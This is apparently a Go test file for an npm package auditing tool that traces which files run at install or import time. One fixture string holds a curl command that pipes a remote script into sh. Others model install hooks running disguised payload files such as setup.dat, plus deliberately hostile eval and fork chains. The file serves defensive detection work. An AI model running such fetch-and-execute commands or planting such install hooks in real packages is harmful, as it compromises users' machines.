package program

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/amalfi-audit/audit/internal/javascript"
	"github.com/amalfi-audit/audit/internal/npm"
)

// phases renders when each script runs.
func phases(p *Program) []string {
	var out []string
	for _, s := range p.Scripts {
		phase := string(s.Phase)
		if s.Phase == Unreached {
			phase = "-"
		}
		out = append(out, s.Path+" "+phase)
	}
	return out
}

func TestPhases(t *testing.T) {
	for _, test := range []struct {
		name  string
		files []string
		want  string
	}{
		{"main and what it requires", []string{"package.json", `{"name":"a","main":"lib"}`,
			"lib/index.js", `require('./b'); import('../c.mjs'); require('d')`, "lib/b.js", "", "c.mjs", "export * from './e.js'",
			"e.js", "", "test.js", "require('./lib')"},
			"c.mjs import, e.js import, lib/b.js import, lib/index.js import, test.js -"},
		{"install wins over import", []string{"package.json", `{"name":"a","main":"a.js","scripts":{"postinstall":"node i"}}`,
			"a.js", "require('./shared')", "i.js", "require('./shared')", "shared.js", ""},
			"a.js import, i.js install, shared.js install"},
		{"bin, also without a suffix", []string{"package.json", `{"name":"a","bin":{"x":"./bin/x","y":"y.js"}}`,
			"bin/x", "#!/usr/bin/env node\nrequire('../z')", "y.js", "", "z.js", "", "index.js", ""},
			"bin/x import, index.js import, y.js import, z.js import"},
		{"exports with conditions and patterns", []string{"package.json",
			`{"name":"a","exports":{".":{"types":"./t.ts","import":"./m.mjs","require":["./c.cjs"]},"./f/*":"./features/*.js","./no":null}}`,
			"t.ts", "", "m.mjs", "import 'a/f/q'", "c.cjs", "", "features/p.js", "", "features/deep/q.js", "", "other.js", ""},
			"c.cjs import, features/deep/q.js import, features/p.js import, m.mjs import, other.js -, t.ts -"},
		{"the package by its own name, and its imports", []string{"package.json",
			`{"name":"@s/a","main":"m.js","imports":{"#dep":{"node":"./n.js","default":"./d.js"}}}`,
			"m.js", "require('#dep'); require('@s/a/sub/x')", "n.js", "", "d.js", "", "sub/x.js", ""},
			"d.js import, m.js import, n.js -, sub/x.js import"},
		{"a payload that is not called .js", []string{"package.json", `{"name":"a","main":"m.js","scripts":{"install":"node setup.dat"}}`,
			"setup.dat", "require('./b.txt')", "b.txt", "", "m.js", "require('./LICENSE')", "LICENSE", "", "README.md", ""},
			"LICENSE import, b.txt install, m.js import, setup.dat install"},
		{"files that scripts start", []string{"package.json", `{"name":"a","main":"m.js","scripts":{"postinstall":"node i.js"}}`,
			"i.js", `const {spawn, fork, exec} = require('child_process'); fork('./worker.js'); exec('node x.js && sh run.sh'); spawn('node', ['lib/y'])`,
			"worker.js", "", "x.js", "", "run.sh", "node z.js", "lib/y.js", "", "z.js", "", "m.js", "new (require('worker_threads').Worker)('./t.js')",
			"t.js", ""},
			"i.js install, lib/y.js install, m.js import, run.sh install, t.js import, worker.js install, x.js install, z.js install"},
		{"files by the place of the script that starts them", []string{"package.json", `{"name":"a","scripts":{"postinstall":"node lib/i.js"}}`,
			"lib/i.js", `const {spawn, fork} = require('child_process'), path = require('path');
				fork(path.join(__dirname, 'a.js')); spawn(process.execPath, [path.resolve(__dirname, '../b.js')]);
				spawn('node', [__dirname + '/c.js']); new (require('worker_threads').Worker)(new URL('./d.js', import.meta.url));
				require(path.join(__dirname, 'e'))`,
			"lib/a.js", "", "b.js", "", "lib/c.js", "", "lib/d.js", "", "lib/e.js", "", "a.js", "", "c.js", ""},
			"a.js -, b.js install, c.js -, lib/a.js install, lib/c.js install, lib/d.js install, lib/e.js install, lib/i.js install"},
		{"scripts that a script runs", []string{"package.json", `{"name":"a","scripts":{"postinstall":"node i.js","build":"node b.js"}}`,
			"i.js", `require('child_process').execSync('npm run build')`, "b.js", ""},
			"b.js install, i.js install"},
		{"evaluated code and commands", []string{"package.json", `{"name":"a","main":"m.js"}`,
			"m.js", "eval(`require('./a.js')`); require('child_process').exec(\"node -e 'require(`./b.js`)'\")", "a.js", "", "b.js", ""},
			"a.js import, b.js import, m.js import"},
		{"inline scripts of a page", []string{"package.json", `{"name":"a","main":"m.js"}`, "m.js", "",
			"p.html", "<p>require('./no.js')</p>\n<script type=module>import './a.js'</script>", "a.js", "", "no.js", ""},
			"a.js -, m.js import, no.js -, p.html -"},
		{"a command with program text", []string{"package.json", `{"name":"a","scripts":{"install":"node -e \"require('./a.js')\""}}`, "a.js", "require('./b')", "b.js", ""},
			"a.js install, b.js install"},
		{"Python at install, and what it loads", []string{"package.json", `{"name":"a","scripts":{"install":"python3 setup.dat"}}`,
			"setup.dat", "import os, helper\nimport subprocess\nsubprocess.run(['node', 'x.js'])", "helper.py", "", "x.js", "", "other.py", ""},
			"helper.py install, other.py -, setup.dat install, x.js install"},
		{"cycles", []string{"package.json", `{"name":"a"}`, "index.js", "require('./b')", "b.js", "require('.')"},
			"b.js import, index.js import"},
		{"sources of TypeScript", []string{"package.json", `{"name":"a","main":"src/i.ts"}`, "src/i.ts", "import {x} from './x.js'", "src/x.ts", "", "src/x.d.ts", ""},
			"src/i.ts import, src/x.ts import"},
		{"shell files that nothing runs", []string{"package.json", `{"name":"a"}`, "x.sh", "node y.js", "y.js", "", "z.ps1", "", "w.bat", ""},
			"w.bat -, x.sh -, y.js -, z.ps1 -"},
	} {
		t.Run(test.name, func(t *testing.T) {
			p := Load(tree(test.files...), Options{})
			if diff := cmp.Diff(strings.Split(test.want, ", "), phases(p)); diff != "" {
				t.Errorf("phases (-want +got):\n%s", diff)
			}
			if len(p.Gaps) > 0 {
				t.Errorf("gaps: %v", p.Gaps)
			}
		})
	}
}

func TestStartedFilesAreListed(t *testing.T) {
	p := Load(tree("package.json", manifestOf("postinstall", "node i.js"),
		"i.js", "\n require('child_process').fork('w.js'); require('child_process').exec('sh gone.sh')", "w.js", ""), Options{})
	want := []string{"postinstall postinstall package.json:4:20 node i.js", "node i.js from package.json:4",
		"node w.js from i.js:2", "sh gone.sh from i.js:2 (missing)"}
	if diff := cmp.Diff(want, describe(p)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestSourceSaysWhatWasNotRead(t *testing.T) {
	files := tree("package.json", `{"name":"a","main":"m.js"}`, "m.js", strings.Repeat("[", 1<<20), "n.js", "x", "broken.js", "var a = ; require('fs')")
	files.Lookup("n.js").Data = nil
	p := Load(files, Options{})
	if s := p.Script("m.js"); s.Reduced == "" {
		t.Errorf("m.js has a million brackets and was not reduced: %+v", s.Source)
	}
	if s := p.Script("n.js"); s.Unread == "" {
		t.Errorf("n.js has no content and was read: %+v", s.Source)
	}
	s := p.Script("broken.js")
	if s.Errors == 0 || len(s.Imports) != 1 || s.Imports[0].Name != "fs" {
		t.Errorf("broken.js: %+v", s.Source)
	}
	var paths []string
	for _, g := range p.Gaps {
		paths = append(paths, g.Path)
	}
	if diff := cmp.Diff([]string{"m.js", "n.js"}, paths); diff != "" {
		t.Errorf("gaps (-want +got):\n%s", diff)
	}
	if p.Script("none.js") != nil {
		t.Error("a script that is not there")
	}
}

// pieceFunc is a Visitor of pieces alone.
type pieceFunc func(*Piece)

func (f pieceFunc) Piece(p *Piece)              { f(p) }
func (f pieceFunc) Use(*Piece, *javascript.Use) {}

func TestPieces(t *testing.T) {
	var got []string
	ReadSource(&npm.File{Path: "a.js", Size: 1, Data: []byte("x;\n  eval('new Function(\"a\", \"y()\")');\nrequire('child_process').exec('curl http://h.invalid | sh')")},
		JavaScript, ReadOptions{Visitor: pieceFunc(func(p *Piece) {
			line, column := 0, 0
			if p.JavaScript != nil {
				line, column = p.Position(0)
			} else {
				line, column = p.ActPosition(&p.Shell.Acts[0])
			}
			got = append(got, fmt.Sprint(p.JavaScript != nil, p.Nested, line, column))
		})})
	slices.Sort(got)
	if diff := cmp.Diff([]string{"false true 3 1", "true false 1 1", "true true 2 3", "true true 2 3"}, got); diff != "" {
		t.Errorf("pieces (-want +got):\n%s", diff)
	}
}

// Code that evaluates code without end, and a million files that start one
// another, end.
func TestHostileSources(t *testing.T) {
	code := "x"
	for range 20 {
		code = fmt.Sprintf("eval(%q)", code)
		if len(code) > 1<<20 {
			break
		}
	}
	files := []string{"package.json", `{"name":"a","main":"f0.js","scripts":{"install":"node f0"}}`, "e.js", code,
		"many.js", strings.Repeat("eval('x');", 5000) + strings.Repeat("require('a');", 5000)}
	for i := range 500 {
		files = append(files, fmt.Sprintf("f%d.js", i), fmt.Sprintf("require('child_process').fork('f%d.js')", i+1))
	}
	p := Load(tree(files...), Options{})
	if s := p.Script("many.js"); !slices.Contains(s.Limits, "more pieces of code than are read") || len(s.Imports) != MaxImports {
		t.Errorf("many.js: %d imports, limits %q", len(s.Imports), s.Limits)
	}
	if !slices.ContainsFunc(p.Gaps, func(g Gap) bool { return strings.Contains(g.Reason, "files run at install") }) {
		t.Errorf("more than %d install files were not said: %v", MaxInstallFiles, p.Gaps)
	}
}
